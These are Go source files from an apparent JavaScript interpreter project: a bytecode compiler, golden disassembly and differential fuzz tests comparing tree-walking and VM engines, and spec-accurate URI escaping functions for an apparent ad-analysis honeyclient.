		c.emit(opForInNext, int32(endL), 0, st.nodeLine())
		if st.Decl {
			c.emit(opDefine, c.atom(st.VarName), 0, st.nodeLine())
		} else {
			c.emit(opAssignVar, c.atom(st.VarName), 0, st.nodeLine())
		}
		c.pushLoop(loopEntry{
			isLoop: true, breakLabel: afterL, contLabel: nextL,
			breakDepth: outerDepth, contDepth: c.depth,
			breakHolds: outerHolds, contHolds: c.holds,
		})
		c.stmt(st.Body, false)
		c.popLoop()
		c.emit(opJump, int32(nextL), 0, st.nodeLine())
		c.bind(endL)
		if scoped {
			c.emit(opPopScope, 0, 0, st.nodeLine())
			c.depth--
		}
		c.emit(opPop, 0, 0, st.nodeLine()) // iterator
		c.holds--
		c.bind(afterL)

	case *ReturnStmt:
		if st.Value != nil {
			c.expr(st.Value)
		} else {
			c.emit(opConst, c.constant(Undefined()), 0, st.nodeLine())
		}
		c.emit(opReturn, 0, 0, st.nodeLine())

	case *BreakStmt:
		c.emitBreak(st.nodeLine())

	case *ContinueStmt:
		c.emitContinue(st.nodeLine())

	case *ThrowStmt:
		c.expr(st.Value)
		c.emit(opThrow, 0, 0, st.nodeLine())

	case *SwitchStmt:
		c.compileSwitch(st)

	case *TryStmt:
		c.compileTry(st)

	default:
		c.abort("minijs: cannot compile statement %T", s)
	}
}

func (c *comp) pushLoop(e loopEntry) { c.loops = append(c.loops, e) }
func (c *comp) popLoop()             { c.loops = c.loops[:len(c.loops)-1] }

// compileSwitch flattens switch into a test sequence over the tag (kept on
// the stack while tests run), per-case preludes that drop the tag and open
// the single switch scope, and fallthrough bodies. Tests run in source
// order, the default clause is skipped during testing, and testing stops at
// the first match — exactly the tree-walker's order of evaluation.
func (c *comp) compileSwitch(st *SwitchStmt) {
	c.expr(st.Tag)
	preL := make([]int, len(st.Cases))
	bodyL := make([]int, len(st.Cases))
	for i := range st.Cases {
		preL[i] = c.newLabel()
		bodyL[i] = c.newLabel()
	}
	noneL := c.newLabel()
	endPopL := c.newLabel()
	afterL := c.newLabel()
	defaultIdx := -1
	for i, cs := range st.Cases {
		if cs.Test == nil {
			defaultIdx = i
			continue
		}
		c.expr(cs.Test)
		c.emit(opCaseJump, int32(preL[i]), 0, st.nodeLine())
	}
	if defaultIdx >= 0 {
		c.emit(opJump, int32(preL[defaultIdx]), 0, st.nodeLine())
	} else {
		c.emit(opJump, int32(noneL), 0, st.nodeLine())
	}
	for i := range st.Cases {
		c.bind(preL[i])
		c.emit(opPop, 0, 0, st.nodeLine()) // tag
		c.emit(opPushScope, 0, 0, st.nodeLine())
		c.emit(opJump, int32(bodyL[i]), 0, st.nodeLine())
	}
	outerDepth := c.depth
	c.depth++ // bodies run inside the switch scope
	c.pushLoop(loopEntry{
		isLoop: false, breakLabel: afterL,
		breakDepth: outerDepth, breakHolds: c.holds,
	})
	for i, cs := range st.Cases {
		c.bind(bodyL[i])
		for _, s2 := range cs.Body {
			c.stmt(s2, false)
		}
	}
	c.popLoop()
	c.depth--
	c.bind(endPopL)
	c.emit(opPopScope, 0, 0, st.nodeLine())
	c.emit(opJump, int32(afterL), 0, st.nodeLine())
	c.bind(noneL)
	c.emit(opPop, 0, 0, st.nodeLine()) // tag, no match and no default
	c.bind(afterL)
}

// compileTry lowers try/catch/finally to an opTry over sub-chunks plus stub
// code that routes break/continue escaping the statement to the innermost
// enclosing loop of this chunk (or propagates them out when there is none).
func (c *comp) compileTry(st *TryStmt) {
	td := tryDesc{
		body:    c.subChunk("try", st.Body),
		breakPC: -1,
		contPC:  -1,
	}
	if st.Catch != nil {
		td.catchAtom = c.atom(st.CatchName)
		td.catch = c.subChunk("catch", st.Catch)
	}
	if st.Finally != nil {
		td.finally = c.subChunk("finally", st.Finally)
	}
	needBreak, needCont := false, false
	for i := len(c.loops) - 1; i >= 0; i-- {
		if !needBreak {
			needBreak = true
		}
		if c.loops[i].isLoop {
			needCont = true
			break
		}
	}
	var breakL, contL int
	if needBreak {
		breakL = c.newLabel()
		td.breakPC = int32(breakL)
	}
	if needCont {
		contL = c.newLabel()
		td.contPC = int32(contL)
	}
	idx := int32(len(c.ch.trys))
	c.ch.trys = append(c.ch.trys, td)
	c.emit(opTry, idx, 0, st.nodeLine())
	afterL := c.newLabel()
	c.emit(opJump, int32(afterL), 0, st.nodeLine())
	if needBreak {
		c.bind(breakL)
		c.emitBreak(st.nodeLine())
	}
	if needCont {
		c.bind(contL)
		c.emitContinue(st.nodeLine())
	}
	c.bind(afterL)
	// Labels inside tryDesc are patched to PCs in finish().
	c.ch.trys[idx] = td
}

// expr compiles one expression. Every eval() entry step the tree-walker
// would charge is attached to the node's first instruction; constant
// folding sums the steps of the folded subtree onto the single opConst.
func (c *comp) expr(e Expr) {
	if v, steps, ok := foldExpr(e); ok {
		c.charge(steps)
		c.emit(opConst, c.constant(v), 0, e.nodeLine())
		return
	}
	c.charge(1) // eval entry step
	switch x := e.(type) {
	case *NumberLit:
		c.emit(opConst, c.constant(Num(x.Value)), 0, x.nodeLine())
	case *StringLit:
		c.emit(opConst, c.constant(Str(x.Value)), 0, x.nodeLine())
	case *BoolLit:
		c.emit(opConst, c.constant(Bool(x.Value)), 0, x.nodeLine())
	case *NullLit:
		c.emit(opConst, c.constant(Null()), 0, x.nodeLine())
	case *UndefinedLit:
		c.emit(opConst, c.constant(Undefined()), 0, x.nodeLine())
	case *ThisExpr:
		c.emit(opThis, 0, 0, x.nodeLine())
	case *Ident:
		c.emit(opGetVar, c.atom(x.Name), 0, x.nodeLine())

	case *ArrayLit:
		for _, el := range x.Elems {
			c.expr(el)
		}
		c.emit(opMakeArray, int32(len(x.Elems)), 0, x.nodeLine())

	case *ObjectLit:
		for _, v := range x.Values {
			c.expr(v)
		}
		ki := int32(len(c.ch.keys))
		c.ch.keys = append(c.ch.keys, x.Keys)
		c.emit(opMakeObject, ki, 0, x.nodeLine())

	case *FuncLit:
		c.emit(opMakeFunc, c.funcIdx(x), 0, x.nodeLine())

	case *RegexLit:
		ri := int32(len(c.ch.regexes))
		c.ch.regexes = append(c.ch.regexes, x)
		c.emit(opMakeRegex, ri, 0, x.nodeLine())

	case *UnaryExpr:
		c.compileUnary(x)

	case *UpdateExpr:
		c.compileUpdate(x)

	case *BinaryExpr:
		c.expr(x.X)
		c.expr(x.Y)
		c.emit(opBinary, c.binOp(x.Op), 0, x.nodeLine())

	case *LogicalExpr:
		c.expr(x.X)
		endL := c.newLabel()
		c.emit(opDup, 0, 0, x.nodeLine())
		if x.Op == "&&" {
			c.emit(opJumpFalse, int32(endL), 0, x.nodeLine())
		} else {
			c.emit(opJumpTrue, int32(endL), 0, x.nodeLine())
		}
		c.emit(opPop, 0, 0, x.nodeLine())
		c.expr(x.Y)
		c.bind(endL)

	case *CondExpr:
		c.expr(x.Cond)
		elseL := c.newLabel()
		endL := c.newLabel()
		c.emit(opJumpFalse, int32(elseL), 0, x.nodeLine())
		c.expr(x.Then)
		c.emit(opJump, int32(endL), 0, x.nodeLine())
		c.bind(elseL)
		c.expr(x.Else)
		c.bind(endL)

	case *AssignExpr:
		c.compileAssign(x)

	case *CallExpr:
		c.compileCall(x)

	case *NewExpr:
		c.expr(x.Callee)
		for _, a := range x.Args {
			c.expr(a)
		}
		c.emit(opNew, int32(len(x.Args)), 0, x.nodeLine())

	case *MemberExpr:
		c.expr(x.Obj)
		c.emit(opGetMember, c.atom(x.Name), 0, x.nodeLine())

	case *IndexExpr:
		c.expr(x.Obj)
		c.expr(x.Index)
		c.emit(opGetIndex, 0, 0, x.nodeLine())

	default:
		c.abort("minijs: cannot compile expression %T", e)
	}
}

func (c *comp) binOp(op string) int32 {
	i, ok := binaryOpIdx[op]
	if !ok {
		c.abort("minijs: cannot compile binary op %q", op)
	}
	return i
}

func (c *comp) compileUnary(x *UnaryExpr) {
	// typeof tolerates undefined identifiers without evaluating them, and
	// delete evaluates only a member expression's object; both mirror
	// evalUnary's special cases, including their step accounting.
	if x.Op == "typeof" {
		if id, ok := x.X.(*Ident); ok {
			c.emit(opTypeofVar, c.atom(id.Name), 0, x.nodeLine())
			return
		}
	}
	if x.Op == "delete" {
		if m, ok := x.X.(*MemberExpr); ok {
			c.expr(m.Obj)
			c.emit(opDelMember, c.atom(m.Name), 0, m.nodeLine())
			return
		}
		c.emit(opConst, c.constant(Bool(true)), 0, x.nodeLine())
		return
	}
	i, ok := unaryOpIdx[x.Op]
	if !ok {
		c.abort("minijs: cannot compile unary op %q", x.Op)
	}
	c.expr(x.X)
	c.emit(opUnary, i, 0, x.nodeLine())
}

func (c *comp) compileUpdate(x *UpdateExpr) {
	prefix := int32(0)
	if x.Prefix {
		prefix = 1
	}
	delta := int32(1)
	if x.Op == "--" {
		delta = -1
	}
	switch t := x.X.(type) {
	case *Ident:
		c.charge(1) // eval of the target identifier
		c.emit(opGetVar, c.atom(t.Name), 0, t.nodeLine())
		c.emit(opUpdateNum, delta, prefix, x.nodeLine())
		c.emit(opAssignVar, c.atom(t.Name), 0, t.nodeLine())
	case *MemberExpr:
		c.charge(1) // eval of the member expression
		c.expr(t.Obj)
		c.emit(opGetMember, c.atom(t.Name), 0, t.nodeLine())
		c.emit(opUpdateNum, delta, prefix, x.nodeLine())
		// assignTo re-evaluates the object — charges and side effects both
		// happen again, matching the tree-walker.
		c.expr(t.Obj)
		c.emit(opSetMember, c.atom(t.Name), 0, t.nodeLine())
	case *IndexExpr:
		c.charge(1)
		c.expr(t.Obj)
		c.expr(t.Index)
		c.emit(opGetIndex, 0, 0, t.nodeLine())
		c.emit(opUpdateNum, delta, prefix, x.nodeLine())
		c.expr(t.Obj)
		c.expr(t.Index)
		c.emit(opSetIndex, 0, 0, t.nodeLine())
	default:
		c.abort("minijs: cannot compile update target %T", x.X)
	}
}

func (c *comp) compileAssign(x *AssignExpr) {
	// evalAssign evaluates the value first, then (for compound ops) the
	// target, then re-evaluates the target's object/index for the store.
	c.expr(x.Value)
	if x.Op != "=" {
		binOp := c.binOp(x.Op[:len(x.Op)-1])
		switch t := x.Target.(type) {
		case *Ident:
			c.charge(1)
			c.emit(opGetVar, c.atom(t.Name), 0, t.nodeLine())
		case *MemberExpr:
			c.charge(1)
			c.expr(t.Obj)
			c.emit(opGetMember, c.atom(t.Name), 0, t.nodeLine())
		case *IndexExpr:
			c.charge(1)
			c.expr(t.Obj)
			c.expr(t.Index)
			c.emit(opGetIndex, 0, 0, t.nodeLine())
		default:
			c.abort("minijs: cannot compile assignment target %T", x.Target)
		}
		// Stack is [value, old]; applyBinary takes (old, value).
		c.emit(opSwap, 0, 0, x.nodeLine())
		c.emit(opBinary, binOp, 0, x.nodeLine())
	}
	c.emit(opDup, 0, 0, x.nodeLine()) // assignment yields the stored value
	switch t := x.Target.(type) {
	case *Ident:
		c.emit(opAssignVar, c.atom(t.Name), 0, t.nodeLine())
	case *MemberExpr:
		c.expr(t.Obj)
		c.emit(opSetMember, c.atom(t.Name), 0, t.nodeLine())
	case *IndexExpr:
		c.expr(t.Obj)
		c.expr(t.Index)
		c.emit(opSetIndex, 0, 0, t.nodeLine())
	default:
		c.abort("minijs: cannot compile assignment target %T", x.Target)
	}
}

func (c *comp) compileCall(x *CallExpr) {
	// Method calls evaluate the receiver once and use it as `this`; the
	// member/index node itself is never eval()ed, so it charges no step.
	switch callee := x.Callee.(type) {
	case *MemberExpr:
		c.expr(callee.Obj)
		c.emit(opDup, 0, 0, callee.nodeLine())
		c.emit(opGetMember, c.atom(callee.Name), 0, callee.nodeLine())
	case *IndexExpr:
		c.expr(callee.Obj)
		c.emit(opDup, 0, 0, callee.nodeLine())
		c.expr(callee.Index)
		c.emit(opGetIndex, 0, 0, callee.nodeLine())
	default:
		c.emit(opConst, c.constant(Undefined()), 0, x.nodeLine()) // this
		c.expr(x.Callee)
	}
	for _, a := range x.Args {
		c.expr(a)
	}
	c.emit(opCall, int32(len(x.Args)), c.atom(calleeName(x.Callee)), x.nodeLine())
}

// foldExpr evaluates a side-effect-free constant subtree at compile time.
// It returns the folded value, the number of interpreter steps the
// tree-walker would have charged evaluating it, and whether folding applies.
// Anything that could throw (string-length overflow, `in` on non-objects) or
// allocate fresh objects per evaluation is left to run time.
func foldExpr(e Expr) (Value, int, bool) {
	switch x := e.(type) {
	case *NumberLit:
		return Num(x.Value), 1, true
	case *StringLit:
		return Str(x.Value), 1, true
	case *BoolLit:
		return Bool(x.Value), 1, true
	case *NullLit:
		return Null(), 1, true
	case *UndefinedLit:
		return Undefined(), 1, true
	case *UnaryExpr:
		if _, isIdent := x.X.(*Ident); isIdent && x.Op == "typeof" {
			return Value{}, 0, false
		}
		v, steps, ok := foldExpr(x.X)
		if !ok {
			return Value{}, 0, false
		}
		switch x.Op {
		case "-":
			return Num(-ToNumber(v)), steps + 1, true
		case "+":
			return Num(ToNumber(v)), steps + 1, true
		case "!":
			return Bool(!Truthy(v)), steps + 1, true
		case "~":
			return Num(float64(^toInt32(v))), steps + 1, true
		case "typeof":
			return Str(TypeOf(v)), steps + 1, true
		}
		return Value{}, 0, false
	case *BinaryExpr:
		a, sa, ok := foldExpr(x.X)
		if !ok {
			return Value{}, 0, false
		}
		b, sb, ok := foldExpr(x.Y)
		if !ok {
			return Value{}, 0, false
		}
		v, err := applyBinary(x.Op, a, b, x.nodeLine())
		if err != nil {
			return Value{}, 0, false
		}
		return v, sa + sb + 1, true
	case *LogicalExpr:
		a, sa, ok := foldExpr(x.X)
		if !ok {
			return Value{}, 0, false
		}
		take := Truthy(a)
		if x.Op == "||" {
			take = !take
		}
		if !take {
			// Short-circuit: the right side is never evaluated, so it does
			// not need to be foldable and charges nothing.
			return a, sa + 1, true
		}
		b, sb, ok := foldExpr(x.Y)
		if !ok {
			return Value{}, 0, false
		}
		return b, sa + sb + 1, true
	case *CondExpr:
		cv, sc, ok := foldExpr(x.Cond)
		if !ok {
			return Value{}, 0, false
		}
		branch := x.Then
		if !Truthy(cv) {
			branch = x.Else
		}
		v, sb, ok := foldExpr(branch)
		if !ok {
			return Value{}, 0, false
		}
		return v, sc + sb + 1, true
	}
	return Value{}, 0, false
}
