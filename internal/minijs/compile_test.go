package minijs

import (
	"crypto/sha256"
	"encoding/hex"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// goldenScripts is the disassembly corpus: each entry pins the exact
// bytecode the compiler emits for one language construct. Regenerate with
//
//	UPDATE_GOLDEN=1 go test ./internal/minijs -run TestGoldenDisassembly
//
// and review the diff like any other code change.
var goldenScripts = []struct {
	name string
	src  string
}{
	{"fold_arith", `var x = 1 + 2 * 3; x;`},
	{"branch_completion", `if (true) "yes"; else "no";`},
	{"while_loop", `var i = 0; while (i < 3) { i = i + 1; } i;`},
	{"for_loop_break", `var s = ""; for (var i = 0; i < 9; i++) { if (i == 2) break; s += i; } s;`},
	{"switch_fallthrough", `var s = ""; switch (2) { case 1: s += "a"; case 2: s += "b"; default: s += "d"; } s;`},
	{"forin_object", `var s = ""; for (var k in {a: 1, b: 2}) { s += k; } s;`},
	{"function_call", `function add(a, b) { return a + b; } add(1, 2);`},
	{"method_this", `var o = {f: function () { return this.v; }, v: 7}; o.f();`},
	{"try_finally", `var s = ""; try { s += "t"; throw "x"; } catch (e) { s += e; } finally { s += "f"; } s;`},
	{"member_compound", `var o = {p: 1}; o.p += 2; o.p;`},
	{"regex_literal", `/a+b/i.test("AAB");`},
	{"logical_shortcircuit", `var a = 0; a && missing(); a || "fallback";`},
}

// TestGoldenDisassembly pins the compiled bytecode listing for every corpus
// script. The golden header records the sha256 of the source, so a listing
// is only comparable to the exact script that produced it.
func TestGoldenDisassembly(t *testing.T) {
	update := os.Getenv("UPDATE_GOLDEN") != ""
	for _, tc := range goldenScripts {
		t.Run(tc.name, func(t *testing.T) {
			prog, err := Parse(tc.src)
			if err != nil {
				t.Fatalf("parse: %v", err)
			}
			if err := CompileProgram(nil, prog); err != nil {
				t.Fatalf("compile: %v", err)
			}
			sum := sha256.Sum256([]byte(tc.src))
			got := fmt.Sprintf("script sha256:%s\n%s", hex.EncodeToString(sum[:]), Disassemble(prog))
			path := filepath.Join("testdata", "golden", tc.name+".disasm")
			if update {
				if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
					t.Fatal(err)
				}
				if err := os.WriteFile(path, []byte(got), 0o644); err != nil {
					t.Fatal(err)
				}
				return
			}
			want, err := os.ReadFile(path)
			if err != nil {
				t.Fatalf("missing golden file (run with UPDATE_GOLDEN=1): %v", err)
			}
			if got != string(want) {
				t.Errorf("disassembly drifted from %s:\n--- got ---\n%s--- want ---\n%s", path, got, want)
			}
		})
	}
}

// TestDisassemblyDeterministic compiles each corpus script twice from
// scratch and requires byte-identical listings — the property the golden
// files (and the content-hash code cache) depend on.
func TestDisassemblyDeterministic(t *testing.T) {
	for _, tc := range goldenScripts {
		listing := func() string {
			prog, err := Parse(tc.src)
			if err != nil {
				t.Fatalf("%s: parse: %v", tc.name, err)
			}
			if err := CompileProgram(nil, prog); err != nil {
				t.Fatalf("%s: compile: %v", tc.name, err)
			}
			return Disassemble(prog)
		}
		a, b := listing(), listing()
		if a != b {
			t.Fatalf("%s: non-deterministic disassembly", tc.name)
		}
		if !strings.Contains(a, "== program") {
			t.Fatalf("%s: listing missing program chunk header:\n%s", tc.name, a)
		}
	}
}
