package minijs

// Differential fuzzing between the tree-walking interpreter and the
// bytecode VM (ISSUE 6). The two engines must agree on everything a script
// can observe: the result value, the error (value and line), every global
// side effect, and the step budget consumed. FuzzParseRecover holds the
// error-tolerant parser to its contract: never panic, never loop, parse a
// superset of the strict grammar, and recover deterministically.

import (
	"sort"
	"strings"
	"testing"

	"madave/internal/fuzzutil"
)

// runEngineForFuzz executes prog on a fresh interpreter with the given
// engine and returns (bounded result, error string, remaining budget, global
// bindings snapshot).
func runEngineForFuzz(prog *Program, useVM bool) (string, string, int, string) {
	in := New()
	in.UseVM = useVM
	in.Budget = fuzzEvalBudget
	in.MaxDepth = 64
	v, err := in.RunProgram(prog)
	errStr := ""
	if err != nil {
		errStr = err.Error()
	}
	out := ToString(v)
	if len(out) > 1<<12 {
		out = out[:1<<12]
	}
	return out, errStr, in.Budget, globalSnapshot(in)
}

// globalSnapshot serializes the global scope's bindings in sorted order with
// bounded value rendering, capturing the side effects a run left behind.
func globalSnapshot(in *Interp) string {
	bindings := map[string]Value{}
	in.Global.Each(func(name string, v Value) { bindings[name] = v })
	keys := make([]string, 0, len(bindings))
	for k := range bindings {
		keys = append(keys, k)
	}
	sort.Strings(keys)
	var b strings.Builder
	for _, k := range keys {
		s := ToString(bindings[k])
		if len(s) > 256 {
			s = s[:256]
		}
		b.WriteString(k)
		b.WriteByte('=')
		b.WriteString(s)
		b.WriteByte('\n')
	}
	return b.String()
}

// diffEngines runs src under both engines and reports any divergence.
func diffEngines(t *testing.T, src string) {
	t.Helper()
	// Each engine gets its own parse: the tree-walk program stays
	// uncompiled, proving the VM result does not depend on shared state.
	treeProg, err := Parse(src)
	if err != nil {
		return
	}
	vmProg, err := Parse(src)
	if err != nil {
		return
	}
	if cerr := CompileProgram(nil, vmProg); cerr != nil {
		t.Fatalf("compile failed on valid program: %v\nsrc: %q", cerr, src)
	}
	tv, te, tb, tg := runEngineForFuzz(treeProg, false)
	vv, ve, vb, vg := runEngineForFuzz(vmProg, true)
	if tv != vv || te != ve {
		t.Fatalf("engine divergence:\n tree = (%q, %q)\n   vm = (%q, %q)\nsrc: %q", tv, te, vv, ve, src)
	}
	if tg != vg {
		t.Fatalf("global side-effect divergence:\n tree globals:\n%s\n vm globals:\n%s\nsrc: %q", tg, vg, src)
	}
	// Budget remainders must match step for step unless the budget was the
	// thing that stopped execution (batched charges then legitimately
	// overshoot by different amounts past zero).
	if te != ErrBudget.Error() && ve != ErrBudget.Error() && tb != vb {
		t.Fatalf("step-count divergence: tree budget %d, vm budget %d\nsrc: %q", tb, vb, src)
	}
}

func FuzzCompileEval(f *testing.F) {
	addScriptSeeds(f)
	f.Fuzz(func(t *testing.T, src string) {
		if len(src) > 1<<12 {
			t.Skip("oversized input")
		}
		diffEngines(t, src)
	})
}

// TestEngineEquivalenceSeeds runs the differential oracle over the full seed
// corpus on every `go test`, so the equivalence contract is enforced even
// without a fuzzing session.
func TestEngineEquivalenceSeeds(t *testing.T) {
	for _, src := range jsBugSeeds {
		diffEngines(t, src)
	}
	for _, src := range fuzzutil.Scripts(0x15, 64) {
		diffEngines(t, src)
	}
	for _, src := range vmRegressionSeeds {
		diffEngines(t, src)
	}
}

// vmRegressionSeeds pin constructs where the two engines are easiest to
// drive apart: completion values, non-local control flow across try/finally,
// double-evaluated assignment targets, switch fallthrough, and for-in over
// mutating objects. Divergences found by FuzzCompileEval land here.
var vmRegressionSeeds = []string{
	// Completion values: only top-level expression statements (and if
	// branches) update the program result.
	`1; 2; if (true) 3;`,
	`if (false) 1; else if (true) { 2; }`,
	`var x = 9;`,
	`5; while (false) {}`,
	// Top-level non-local control stops quietly with the last completion.
	`1; 2; return; 3;`,
	`7; break;`,
	// try/catch/finally control overriding.
	`var r = (function () { try { return "t"; } finally { return "f"; } })(); r;`,
	`var r = (function () { try { throw "x"; } catch (e) { return e; } finally { var z = 1; } })(); r;`,
	`var s = ""; for (var i = 0; i < 3; i++) { try { if (i == 1) continue; s += i; } finally { s += "f"; } } s;`,
	`var s = ""; while (true) { try { break; } finally { s += "f"; } } s;`,
	`(function () { try { throw "a"; } finally { } })();`,
	`var s = ""; try { try { throw "x"; } finally { s += "inner"; } } catch (e) { s += "|caught " + e; } s;`,
	// Double evaluation of member/index assignment targets.
	`var n = 0; function o() { n++; return {p: 1}; } o().p += 2; n;`,
	`var n = 0; var a = [5]; function idx() { n++; return 0; } a[idx()] += 3; "" + a + "|" + n;`,
	`var n = 0; function o() { n++; return {p: 1}; } o().p++; n;`,
	// Step parity on short-circuits and folding.
	`var x = 1 + 2 * 3; x;`,
	`true && false || "tail";`,
	`1 ? "a" : "b";`,
	`var y = "s" + 1 + null + undefined + true;`,
	// Switch semantics: test order, default skip, fallthrough, break.
	`var s = ""; switch (2) { case 1: s += "a"; case 2: s += "b"; case 3: s += "c"; break; default: s += "d"; } s;`,
	`var s = ""; switch (9) { case 1: s += "a"; default: s += "d"; case 3: s += "c"; } s;`,
	`var s = ""; for (var i = 0; i < 4; i++) { switch (i) { case 1: continue; case 2: break; } s += i; } s;`,
	// for-in determinism and loop-variable scoping.
	`var s = ""; var o = {b: 1, a: 2}; for (var k in o) { s += k; } s;`,
	`var s = ""; for (var k in [10, 20, 30]) { s += k; } s;`,
	`var s = ""; for (var k in "notobject") { s += k; } "ok" + s;`,
	// Identifier/reference errors carry exact lines.
	"var a = 1;\nmissing;",
	"var o = null;\no.x = 1;",
	"var u;\nu.prop;",
	// typeof/delete special forms.
	`typeof notdefined;`,
	`var o = {x: 1}; delete o.x; typeof o.x;`,
	`var a = [1]; delete a[0]; a.length;`,
	// Update expressions.
	`var i = 5; var a = i++ + ++i; a + "|" + i;`,
	// this/new/constructor-return semantics.
	`function C() { this.v = 7; } var c = new C(); c.v;`,
	`function D() { return {v: 8}; } new D().v;`,
	`function E() { return 3; } new E().v === undefined;`,
	// arguments aliasing and depth errors.
	`function f() { return arguments[1]; } f(1, 2, 3);`,
	`function rec(n) { return rec(n + 1); } try { rec(0); } catch (e) { "" + e; }`,
	// Regex literals (new in this dialect).
	`/a+b/.test("aaab");`,
	`/x/.test("y") === false;`,
	`"a1b2".replace(/[0-9]/g, "#");`,
	`"a1b2".replace(/[0-9]/, "#");`,
	`var m = "za9".match(/([a-z])(9)/); m[1] + m[2] + m.index;`,
	`/(?=lookahead)/.test("lookahead");`, // inert under RE2: must be false, not an error
	`"aXb".split("X").join("|");`,
	`"s$1".replace(/s/, "$&$&");`,
	// eval reentrancy through the VM.
	`var r = eval("1 + 2"); r;`,
	`eval("var inner = 5;"); inner;`,
	// Budget exhaustion points.
	`var i = 0; while (true) { i++; }`,
	`function loop() { while (true) {} } try { loop(); } finally { var cleanup = 1; }`,
	// Negative zero: the compiler's constant pool must not intern -0 and +0
	// into one slot (-0 == +0 in Go, but 1/-0 is -Infinity in JS). Found by
	// FuzzCompileEval as "-0A=0" (seed negzero-const-interning).
	`-0A=0`,
	`var z = -0; var p = 0; "" + (1 / z) + "|" + (1 / p);`,
	`var s = "" + -0; s;`,
}
