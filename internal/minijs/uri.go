package minijs

// JavaScript's escape/unescape and encodeURIComponent/decodeURIComponent,
// implemented to spec instead of on top of url.QueryEscape/QueryUnescape.
// The query-string helpers encode ' ' as '+' and decode '+' as ' ', which is
// form-encoding, not JS semantics: encodeURIComponent(" ") must be "%20" and
// unescape("a+b") must keep the '+'. Ad landing pages build redirect URLs
// with these functions, so the form-encoding divergence corrupted the URLs
// the honeyclient follows.

import (
	"strings"
	"unicode/utf16"
	"unicode/utf8"
)

const hexUpper = "0123456789ABCDEF"

// escapeUnreserved is the set escape() leaves intact: ASCII alphanumerics
// plus @*_+-./ (ECMA-262 B.2.1).
func escapeUnreserved(c uint16) bool {
	switch {
	case c >= 'A' && c <= 'Z', c >= 'a' && c <= 'z', c >= '0' && c <= '9':
		return true
	case c == '@' || c == '*' || c == '_' || c == '+' || c == '-' || c == '.' || c == '/':
		return true
	}
	return false
}

// jsEscape implements the legacy global escape(): code units < 256 that are
// not unreserved become %XX, all other code units become %uXXXX.
func jsEscape(s string) string {
	var b strings.Builder
	b.Grow(len(s))
	for _, u := range utf16.Encode(runesLatin1Fallback(s)) {
		switch {
		case escapeUnreserved(u):
			b.WriteByte(byte(u))
		case u < 0x100:
			b.WriteByte('%')
			b.WriteByte(hexUpper[u>>4])
			b.WriteByte(hexUpper[u&0xf])
		default:
			b.WriteString("%u")
			b.WriteByte(hexUpper[u>>12&0xf])
			b.WriteByte(hexUpper[u>>8&0xf])
			b.WriteByte(hexUpper[u>>4&0xf])
			b.WriteByte(hexUpper[u&0xf])
		}
	}
	return b.String()
}

// runesLatin1Fallback decodes s as UTF-8, mapping each invalid byte to its
// Latin-1 code point instead of U+FFFD. escape and unescape share this so
// byte-mangled payloads round-trip: unescape(escape(s)) == s code-unit-wise.
func runesLatin1Fallback(s string) []rune {
	runes := make([]rune, 0, len(s))
	for i := 0; i < len(s); {
		r, size := utf8.DecodeRuneInString(s[i:])
		if r == utf8.RuneError && size == 1 {
			r = rune(s[i])
		}
		runes = append(runes, r)
		i += size
	}
	return runes
}

// jsUnescape implements the legacy global unescape(): %uXXXX yields the code
// unit XXXX, %XX yields the code unit XX, and every other character —
// including '+' — passes through untouched. Malformed escapes are left
// literal, as in browsers.
func jsUnescape(s string) string {
	var units []uint16
	for i := 0; i < len(s); {
		if s[i] == '%' {
			if i+5 < len(s) && (s[i+1] == 'u' || s[i+1] == 'U') &&
				isHexDigit(s[i+2]) && isHexDigit(s[i+3]) && isHexDigit(s[i+4]) && isHexDigit(s[i+5]) {
				v := hexVal(s[i+2])<<12 | hexVal(s[i+3])<<8 | hexVal(s[i+4])<<4 | hexVal(s[i+5])
				units = append(units, uint16(v))
				i += 6
				continue
			}
			if i+2 < len(s) && isHexDigit(s[i+1]) && isHexDigit(s[i+2]) {
				units = append(units, uint16(hexVal(s[i+1])<<4|hexVal(s[i+2])))
				i += 3
				continue
			}
		}
		r, size := utf8.DecodeRuneInString(s[i:])
		if r == utf8.RuneError && size == 1 {
			// Invalid UTF-8 byte: treat as a Latin-1 code unit so
			// byte-mangled payloads round-trip through unescape(escape(s)).
			r = rune(s[i])
		}
		units = append(units, utf16.Encode([]rune{r})...)
		i += size
	}
	return string(utf16.Decode(units))
}

// uriComponentUnreserved is the set encodeURIComponent leaves intact:
// ASCII alphanumerics plus -_.!~*'() (ECMA-262 22.2.3.4 / RFC 2396 mark).
func uriComponentUnreserved(c byte) bool {
	switch {
	case c >= 'A' && c <= 'Z', c >= 'a' && c <= 'z', c >= '0' && c <= '9':
		return true
	case c == '-' || c == '_' || c == '.' || c == '!' || c == '~' || c == '*' || c == '\'' || c == '(' || c == ')':
		return true
	}
	return false
}

// jsEncodeURIComponent percent-encodes every byte of the UTF-8 encoding of s
// outside the unreserved set. Space encodes to %20, never '+'.
func jsEncodeURIComponent(s string) string {
	var b strings.Builder
	b.Grow(len(s))
	for i := 0; i < len(s); i++ {
		c := s[i]
		if uriComponentUnreserved(c) {
			b.WriteByte(c)
		} else {
			b.WriteByte('%')
			b.WriteByte(hexUpper[c>>4])
			b.WriteByte(hexUpper[c&0xf])
		}
	}
	return b.String()
}

// jsDecodeURIComponent decodes %XX sequences as UTF-8 bytes and leaves every
// other character — including '+' — untouched. Where real JS throws URIError
// on malformed input, this keeps the malformed bytes literal, matching the
// leniency the rest of the parsing substrate applies to hostile input.
func jsDecodeURIComponent(s string) string {
	if !strings.ContainsRune(s, '%') {
		return s
	}
	var b strings.Builder
	b.Grow(len(s))
	for i := 0; i < len(s); {
		if s[i] == '%' && i+2 < len(s) && isHexDigit(s[i+1]) && isHexDigit(s[i+2]) {
			b.WriteByte(byte(hexVal(s[i+1])<<4 | hexVal(s[i+2])))
			i += 3
			continue
		}
		b.WriteByte(s[i])
		i++
	}
	return b.String()
}
