package minijs

import (
	"errors"
	"math"
	"strings"
	"testing"
	"testing/quick"
)

// run executes src in a fresh interpreter and fails the test on error.
func run(t *testing.T, src string) Value {
	t.Helper()
	in := New()
	v, err := in.Run(src)
	if err != nil {
		t.Fatalf("Run(%q): %v", src, err)
	}
	return v
}

// expectNum runs src and asserts the completion value.
func expectNum(t *testing.T, src string, want float64) {
	t.Helper()
	v := run(t, src)
	if !v.IsNumber() {
		t.Fatalf("Run(%q) = %#v (%s), want number", src, v, TypeOf(v))
	}
	got := v.Num()
	if got != want && !(math.IsNaN(got) && math.IsNaN(want)) {
